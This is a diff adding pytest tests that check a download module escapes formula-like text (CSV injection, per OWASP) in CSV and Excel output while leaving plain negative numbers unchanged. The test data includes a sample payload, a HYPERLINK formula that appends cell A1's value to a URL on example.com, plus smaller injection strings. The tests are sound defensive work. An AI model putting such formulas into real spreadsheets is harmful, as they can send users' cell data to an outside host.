@@ -86,3 +86,42 @@ def test_stacked_bars_print_c_for_a_total_that_needs_a_withheld_part():
     assert list(fig.data[1].text) == ["", "<b>13</b>"]  # nothing printed for the withheld part
     plain = charts.stacked_bars(frame.fillna(1.0), "quarter", "children", "age", "t", "n")
     assert list(plain.data[-1].text) == ["Total 11", "Total 25"]
+
+
+def test_formula_like_text_is_inert_in_csv_and_excel(monkeypatch, tmp_path):
+    """A pack's text starting with = + - @ (or a tab) must not run as a formula in a
+    spreadsheet (OWASP, CSV injection); plain numbers such as -12 or -1.5% stay numbers."""
+    monkeypatch.setenv(downloads.ENV, str(tmp_path / "downloads" / "pa"))
+    attack = '=HYPERLINK("http://example.com/?x="&A1,"Click")'
+    frame = pd.DataFrame(
+        {
+            "team": [attack, "+1+2", "-2+3", "@SUM(A1)", "\tcmd", "Team A"],
+            "change": ["-12", "-1.5%", "+3", "-1,200", "1", "-0.5"],
+            "n": [1, 2, 3, 4, 5, 6],
+        }
+    )
+    downloads.save(frame, "teams")
+    path = tmp_path / "downloads" / "pa" / "teams.csv"
+    written = pd.read_csv(path, dtype=str, keep_default_na=False)
+    assert written["team"].tolist() == [
+        "'" + attack,
+        "'+1+2",
+        "'-2+3",
+        "'@SUM(A1)",
+        "'\tcmd",
+        "Team A",
+    ]
+    assert written["change"].tolist() == ["-12", "-1.5%", "+3", "-1,200", "1", "-0.5"]
+    target = downloads.workbook(tmp_path / "downloads", tmp_path / "tables.xlsx")
+    sheet = openpyxl.load_workbook(target)["pa-teams"]
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert sheet["A2"].value == "'" + attack
+
+
+def test_the_workbook_never_stores_a_formula_even_from_an_unguarded_csv(tmp_path):
+    (tmp_path / "pa").mkdir()
+    (tmp_path / "pa" / "raw.csv").write_text('name\n"=1+1"\n', encoding="utf-8")
+    target = downloads.workbook(tmp_path, tmp_path / "out" / "tables.xlsx")
+    cell = openpyxl.load_workbook(target)["pa-raw"]["A2"]
+    assert cell.data_type != "f"
